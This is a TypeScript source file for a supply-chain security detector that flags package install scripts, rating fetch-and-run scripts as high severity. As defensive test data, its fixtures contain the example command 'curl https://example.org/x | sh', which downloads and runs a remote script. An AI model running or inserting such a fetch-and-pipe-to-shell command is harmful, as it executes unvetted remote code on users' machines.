/** Commands that run when a package is installed. */
import { type Detection, defineDetector } from '../engine/detector.ts';
import { artefactWith, examplePractice } from '../engine/examples.ts';

const fetching = examplePractice({ subject: 'package-manifest', code: 'install-script-fetches', text: 'curl https://example.org/x | sh' });
const plain = examplePractice({ subject: 'package-manifest', code: 'install-script', text: 'node-gyp rebuild' });

export default defineDetector({
  id: 'package-install-script',
  title: 'Installing this package runs a command',
  axis: 'posture',
  severity: 'informational',
  references: ['CWE-506', 'AML.T0010', 'LLM03:2025'],
  remedy: 'Install with --ignore-scripts where that is possible, and read the script before it runs.',
  detect: ({ practices }) =>
    practices.flatMap(({ subject, code, detail, text, where }): readonly Detection[] => {
      if (subject !== 'package-manifest') return [];
      if (code === 'install-script') return [{ certainty: 'proved' as const, why: detail, evidence: text === '' ? code : text, where }];
      if (code !== 'install-script-fetches') return [];
      return [
        {
          title: 'Installing this package fetches or hides what it runs',
          severity: 'high' as const,
          certainty: 'possible' as const,
          why: detail,
          evidence: text === '' ? code : text,
          where,
        },
      ];
    }),
  flags: [artefactWith({ practices: [fetching] }), artefactWith({ practices: [plain] })],
  passes: [artefactWith({ practices: [examplePractice({ subject: 'package-manifest', code: 'unpinned' })] })],
});
